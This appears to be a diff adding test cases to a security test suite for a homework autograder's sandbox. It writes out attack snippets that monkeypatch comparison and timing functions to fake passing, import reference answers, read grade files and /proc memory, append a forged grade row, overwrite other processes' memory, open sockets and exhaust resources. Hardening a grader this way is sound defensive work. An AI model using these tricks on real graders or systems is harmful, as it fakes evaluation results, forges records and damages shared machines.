@@ -85,6 +85,9 @@ for top in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/dev", "/run", "/
             with open(f"{top}/fill{i}", "wb") as file: file.write(b"x" * 2**24)
         except OSError: break
 """
+EMPTY_FILES = """
+for i in range(10**6): os.mknod(f"/dev/shm/fill{i}")
+"""
 LARGE_FILE = """
 with open("/tmp/large", "wb") as file:
     while True: file.write(b"x" * 2**24)
@@ -150,6 +153,95 @@ for question in range(3):
         answer = plain.dump({"value": True, "points": 3, "correct": True})
         os.write(3, plain.dump({"question": question, "check": check, "bytes": len(answer)}) + answer)
 os.write(3, plain.dump({"done": True, "total": 100}))
+"""
+PATCH_COMPARE = """
+import operator, math, difflib
+operator.eq = operator.le = math.isclose = lambda *a, **k: True
+difflib.SequenceMatcher.ratio = lambda self: 1.0
+try: import homework.grader.compare as compare; compare.compare = lambda *a: None
+except ImportError: pass
+for module in list(sys.modules.values()):
+    for name in ("compare", "judge", "same", "equal"):
+        if hasattr(module, name) and not module.__name__.startswith("numpy"): setattr(module, name, lambda *a: None)
+"""
+CLOCK = """
+time.time = time.monotonic = time.perf_counter = lambda: 0.0
+time.sleep = lambda seconds: None
+"""
+IMPORT_ANSWER = """
+for name in ("homework.hw01.reference", "unrolled.cells", "questions", "tests.homework.classroom", "hidden_checks"):
+    try:
+        module = __import__(name, fromlist=["*"])
+        linear = getattr(module, "linear", None) or linear
+    except ImportError: pass
+"""
+SOCKETS = """
+import socket
+for family in range(46):
+    for kind in (1, 2, 3):
+        for make in (socket.socket, socket.socketpair):
+            try:
+                one = make(family, kind)
+                one = one[0] if type(one) is tuple else one
+                one.connect(("203.0.113.1", 80))
+                one.send(b"the questions")
+            except Exception: pass
+try: socket.getaddrinfo("example.org", 80)
+except OSError: pass
+"""
+READ_ALL = """
+import glob, gc
+found = []
+patterns = ("/**/questions.py", "/**/reference.py", "/**/*.ipynb", "/**/grades.csv", "/proc/*/environ", "/proc/*/mem")
+for path in [p for pattern in patterns for p in glob.glob(pattern, recursive=True) if not p.startswith("/usr/lib")]:
+    try:
+        with open(path, errors="replace") as file: found.append(file.read(1000))
+    except OSError: pass
+found += [o for o in gc.get_objects() if type(o).__name__ in ("Check", "Question", "Homework")]
+found += [frame for frame in sys._current_frames().values()]
+assert not [text for text in found if "rnn_step" in str(text) and "homework.grader" in str(text)]
+"""
+OTHER_ROWS = """
+import glob
+for path in glob.glob("/**/*.csv", recursive=True)[:999] + ["../in-graded/grades.csv", "grades.csv", "/tmp/grades.csv"]:
+    try:
+        with open(path, "a") as file: file.write("bob,bob,3,2,3,,8,8,graded\\n")
+    except OSError: pass
+"""
+SHARED_MEMORY = """
+import mmap, ctypes
+for make in (lambda: mmap.mmap(-1, 3 * 2**30), lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 3 * 2**30)):
+    try:
+        shared = make()
+        while True: shared.write(b"x" * 2**24)
+    except (OSError, ValueError): pass
+"""
+OPEN_FILES = """
+kept = []
+while True: kept.append(os.open("/dev/null", os.O_RDONLY))
+"""
+SMALL_FRAMES = """
+import plain
+while True: os.write(3, plain.dump({}) * 1000)
+"""
+LARGE_NUMBER = """
+for question in range(3):
+    for check in range(2):
+        answer = b'{"value": ' + b"9" * 4000 + b"}"
+        head = b'{"question": %d, "check": %d, "bytes": 1}' % (question, check)
+        for part in (head, answer): os.write(3, len(part).to_bytes(8, "big") + part)
+"""
+PARENT_MEMORY = """
+for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]:
+    try:
+        maps = [line.split() for line in open(f"/proc/{pid}/maps")]
+        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
+            for line in maps:
+                if line[1].startswith("rw"):
+                    start, end = (int(part, 16) for part in line[0].split("-"))
+                    memory.seek(start)
+                    memory.write(bytes(end - start))
+    except (OSError, OverflowError): pass
 """
 ALWAYS = """
 class Always:
@@ -224,11 +316,14 @@ ATTACKS = [
         NO_STEP,
     ),
     Attack("a list that holds itself", step("a = []\na.append(a)\nreturn a"), "inside one another", NO_STEP),
+    Attack("3 GB of shared memory", first(SHARED_MEMORY)),
+    Attack("opens files without end", first(OPEN_FILES), "left much running or open"),
     Attack(
         "1 GB of output", first("for _ in range(1024): print('x' * 2**20); print('x' * 9, file=sys.stderr)")
     ),
     Attack("1 GB into every open file", first(FLOOD_FILES), "is not an answer", NONE, "stopped"),
     Attack("1 GB of well-formed answers", first(FLOOD_FRAMES), "too much output", NONE, "stopped"),
+    Attack("a million tiny messages", first(SMALL_FRAMES), "too much output", NONE, "stopped"),
     Attack("sys.exit in a cell", first("sys.exit(0)"), "SystemExit"),
     Attack("sys.exit in a function", step("sys.exit(0)"), "SystemExit", NO_STEP),
     Attack("os._exit in a cell", first("os._exit(0)"), "ended or crashed Python"),
@@ -242,16 +337,26 @@ ATTACKS = [
         NONE,
         "stopped",
     ),
+    Attack("closes every file", first("os.closerange(0, 256)"), "ended or crashed Python"),
+    Attack("writes into its parents' memory", first(PARENT_MEMORY)),
     Attack("deletes files", first(DELETE)),
     Attack("fills the disk", first(FILL)),
+    Attack("a million empty files", first(EMPTY_FILES), "more than 20,000 files", NONE, "stopped"),
     Attack("a file of 10 GB", first(LARGE_FILE), "OSError"),
     Attack("patches numpy", first(PATCH_NUMPY)),
     Attack("patches torch", last(PATCH_TORCH)),
     Attack("patches unittest, doctest, pytest, otter", first(PATCH_TESTS)),
     Attack("patches json", first(PATCH_JSON)),
+    Attack("patches comparison functions", first(PATCH_COMPARE)),
+    Attack("patches the clock", first(CLOCK)),
     Attack("patches the program that asks", first(PATCH_GRADER), "expected", NO_STEP),
     Attack("patches builtins", first(PATCH_BUILTINS)),
     Attack("claims to be right", first(CLAIM), "expected", NO_STEP),
+    Attack("claims a number of 4,000 digits", first(LARGE_NUMBER), "what is not an answer", NO_STEP),
+    Attack("reads tests, reference, others, environment, /proc", first(READ_ALL)),
+    Attack("imports the answer", last(IMPORT_ANSWER)),
+    Attack("opens a socket", first(SOCKETS)),
+    Attack("writes to other rows", first(OTHER_ROWS)),
     Attack("equal to everything", layer("return Always()", ALWAYS), "a value of type Always"),
     Attack("code in __array__ and __reduce__", layer("return Runs()", RUNS_CODE), "a value of type Runs"),
     Attack(
